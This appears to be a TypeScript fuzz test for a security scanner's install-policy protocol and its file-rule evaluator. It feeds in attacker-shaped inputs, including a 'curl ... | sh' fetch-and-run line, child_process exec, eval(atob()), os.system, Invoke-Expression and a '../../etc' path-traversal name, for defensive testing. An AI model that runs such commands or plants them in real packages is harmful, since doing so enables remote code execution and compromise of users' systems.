/**
 * Attacker-shaped text into the two places that take it whole: the install-policy protocol (any bytes on
 * stdin give one valid protocol-1 response, and anything that is not a valid request is a fail-closed block)
 * and the rule evaluator (any file name and text, SKILL.md frontmatter included, gives findings, never a throw).
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { runPolicy } from '../../src/openclaw/policy/run-policy.js';
import { parseRequest } from '../../src/openclaw/policy/protocol.js';
import { inspectFileText } from '../../src/inspect/index.js';
import { fuzzParams, fuzzTimeout } from './params.js';

const state = fs.mkdtempSync(path.join(os.tmpdir(), 'clawguard-fuzz-policy-'));
afterAll(() => fs.rmSync(state, { recursive: true, force: true }));

const SEVERITIES = ['info', 'low', 'medium', 'high', 'critical'];
const fragments = fc.constantFrom(
  '{', '}', '[', ']', '"', ':', ',', '\\u0000', '\\', 'protocolVersion', '"protocolVersion":1', '"targetType":"plugin"', '"targetType":"skill"', '"origin":{"type":"doctor"}',
  '"sourcePath":"/nonexistent.invalid/x"', '"sourcePathKind":"directory"', '"request":{"kind":"plugin","mode":"install"}', 'null', 'true', '1e309', '-0', '\ufeff', '\u2028',
);
const requestish = fc.array(fc.oneof(fragments, fc.string({ maxLength: 8 })), { maxLength: 20 }).map((p) => p.join(''));
/** Well-formed requests with hostile field values: names, paths, specs the package controls. */
const structured = fc
  .record({
    protocolVersion: fc.oneof(fc.constant(1), fc.integer(), fc.string()),
    targetName: fc.oneof(fc.string({ maxLength: 30 }), fc.constant('../../etc'), fc.constant('@s/p')),
    targetType: fc.constantFrom('plugin', 'skill', 'other', 5),
    sourcePath: fc.oneof(fc.constant('/nonexistent.invalid/pkg'), fc.string({ maxLength: 20 }), fc.constant(state)),
    sourcePathKind: fc.constantFrom('directory', 'file', 'x'),
    origin: fc.oneof(fc.record({ type: fc.constantFrom('npm', 'local', 'git', 'doctor', 'clawhub') }), fc.constant(null), fc.string()),
    request: fc.record({ kind: fc.constantFrom('plugin', 'skill', 'x'), mode: fc.constantFrom('install', 'update', 'x'), requestedSpecifier: fc.string({ maxLength: 20 }) }, { requiredKeys: ['kind', 'mode'] }),
  }, { requiredKeys: [] })
  .map((r) => JSON.stringify(r));

describe('policy protocol (property)', () => {
  it(
    'any bytes on stdin: exactly one valid protocol-1 response; an unparseable request is a block',
    async () => {
      await fc.assert(
        fc.asyncProperty(fc.oneof(requestish, structured, fc.string({ unit: 'binary', maxLength: 200 }), fc.uint8Array({ maxLength: 300 }).map((a) => Buffer.from(a).toString('latin1'))), async (text) => {
          const res = await runPolicy({ stdin: Readable.from([Buffer.from(text, 'utf8')]), stateDir: state, env: { HOME: state, PATH: process.env.PATH }, timeBudgetMs: 3000, log: () => undefined, minReleaseAge: '0' });
          expect(res.protocolVersion).toBe(1);
          expect(['allow', 'warn', 'block']).toContain(res.decision);
          expect(() => JSON.stringify(res)).not.toThrow();
          const parsed = parseRequest(text);
          if (!parsed.ok) {
            expect(res.decision, `${JSON.stringify(text)} -> ${JSON.stringify(res)}`).toBe('block');
            expect(res.reason).toBeTruthy();
          } else if (parsed.request.origin.type !== 'doctor' && !fs.existsSync(parsed.request.sourcePath)) expect(res.decision).toBe('block');
        }),
        fuzzParams(150),
      );
    },
    fuzzTimeout(150, 400),
  );
});

const codeish = fc.constantFrom(
  "require('child_process').exec(", 'eval(atob("', 'curl -fsSL http://192.0.2.1/x | sh', 'process.env', 'fetch("https://example.com/"+', '\n', '`', '${', '/*', '*/', '//', '<!--', '-->', 'base64 -d',
  'import os\nos.system(', 'Invoke-Expression', '#!/bin/sh\n', '\u202e', '\u200b', '"', "'", '\\', '0x', 'new Function(', '---\n', 'name: ', 'description: ', '  - ', ': |\n', '&anchor', '*anchor', '!!js/function',
);
const text = fc.array(fc.oneof(codeish, fc.string({ maxLength: 12 }), fc.string({ unit: 'grapheme', maxLength: 6 })), { maxLength: 40 }).map((p) => p.join(''));
const fileName = fc.constantFrom('index.js', 'dist/a.mjs', 'install.sh', 'setup.py', 'run.ps1', 'README.md', 'SKILL.md', 'skills/x/SKILL.md', 'package.json', 'data.json', 'noext', 'a.ts', 'x.cjs', 'Makefile');

describe('rule evaluator (property)', () => {
  it('any file name and text (SKILL.md frontmatter, package.json, scripts): findings with known severities, never a throw', () => {
    fc.assert(
      fc.property(fileName, fc.oneof(text, text.map((t) => `---\n${t}\n---\n${t}`), fc.string({ unit: 'binary', maxLength: 300 })), fc.boolean(), (file, body, installTime) => {
        const { findings } = inspectFileText(file, body, { installTime });
        for (const f of findings) {
          expect(SEVERITIES).toContain(f.severity);
          expect(typeof f.ruleId).toBe('string');
        }
      }),
      fuzzParams(150),
    );
  }, fuzzTimeout(150, 200));
});
